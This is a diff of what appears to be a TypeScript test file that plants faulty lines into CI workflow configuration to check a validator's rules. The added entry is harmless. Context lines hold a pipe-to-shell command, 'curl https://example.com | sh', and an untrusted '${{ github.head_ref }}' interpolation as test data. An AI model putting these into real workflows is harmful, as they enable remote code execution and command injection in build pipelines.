@@ -42,6 +42,7 @@ const PLANTS: readonly (readonly [rule: string, from: string, to: string])[] = [
   ["jobs run npm scripts that exist", "npm run release -- assemble", "npm run release -- gather"],
   ["jobs run npm scripts that exist", "npm run check -- generated", "curl https://example.com | sh"],
   ["jobs run npm scripts that exist", '"$TARGET"', "${{ github.head_ref }}"],
+  ["what runs the long suites has installed a nightly Rust before", "npm run check -- generated", "npm run test:long"],
   [
     "a matrix of targets has those of package.json",
     "          - { target: x86_64-apple-darwin, runner: macos-latest }\n",
